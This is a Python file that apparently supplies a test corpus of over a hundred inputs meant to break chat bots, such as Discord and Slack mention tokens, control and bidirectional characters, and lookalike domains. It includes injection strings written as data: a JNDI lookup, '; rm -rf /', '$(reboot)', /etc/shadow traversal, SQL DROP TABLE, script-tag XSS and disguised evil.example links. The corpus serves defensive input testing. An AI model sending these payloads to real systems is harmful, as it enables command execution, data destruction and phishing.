"""Words that break bots, written by us: each is a title, a field or a command's argument that somebody may send."""

DISCORD_MARKS = (
    "@everyone", "@here", "<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>",
    "</deals latest:123456789012345678>", "<t:0:R>", "<:wink:123456789012345678>", "<a:wink:123456789012345678>", "<id:browse>",
)  # fmt: skip
SLACK_MARKS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0000007>",
    "<!subteam^S0000007>",
    "<#C0000007>",
    "<http://evil.example|bank.example>",
)
BIDI = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0xFEFF, 0x061C]))
WORDS = (
    *DISCORD_MARKS,
    *SLACK_MARKS,
    "", " ", "\n", "\t\r\n", "\x00", "\x01\x02\x1f\x7f", "\x85\x9b31m", "\ufeffmark first", "\ud800 half a pair", "\udfff", "\U0010ffff\ufffe",
    "undefined", "null", "None", "NaN", "true", "-0", "1e309", "0x1F", "9" * 400, "1/0", "½⅓", "٣٫٥", "१२३",
    "'", '"', "`", "```\ncode", "\\", "\\u0000", "%s%n%x", "{0}{name}", "${jndi:ldap://x.example/a}", "$(reboot)", "`id`", "; rm -rf /", "| cat",
    "../../../../etc/shadow", "C:\\con\\con", "file:///etc/passwd", "' OR 1=1 --", "'; DROP TABLE entries; --", '" OR ""="', "%' ESCAPE '", "NEAR(a b)",
    'a" AND b NOT "c', "*", "^", "a*b*c", "(((((", "[[[[", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "]]>", "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;", "&#60;!channel&#62;", "*bold* _it_ ~gone~ `code`", "**bold** __under__ ||spoiler||", "# heading\n> quote\n- item",
    "[bank.example](https://evil.example)", "<https://evil.example>", "https://bank.example@evil.example/", "javascript:alert(1)",
    "data:text/html;base64,AAAA", "//evil.example", "mailto:a@b.example", "http://[::1]/", "http://127.0.0.1:22/", "discord.gg/abc",
    "\u202eexe.gpj", f"a{BIDI}b", "za\u0300\u0301\u0302\u0303\u0304lgo", "e\u0301" * 50, "\u0301leading mark", "👩‍👩‍👧‍👦🏳️‍🌈", "🇫🇷🇩", "😀" * 60,
    "ﷺ" * 20, "Ω≈ç√∫", "社會科學院語學研究所", "テスト、試験", "מִבְחָן", "اختبار هذا", "ทดสอบ", "ẞßſŉǰΐ", "İIıi", "ﬃ", "\u1680ogham", "\u3000wide",
    "аррӏе.example", "xn--80ak6aa92e.example", "раураl", "A" * 3000, "word " * 700, "\u200b\u200c\u200d", "\u00ad" * 30, "\u2028line\u2029paragraph",
)  # fmt: skip
"""Over a hundred: nothing, control signs, numbers that are none, code, queries, markup, links, directions, marks, scripts, lengths."""
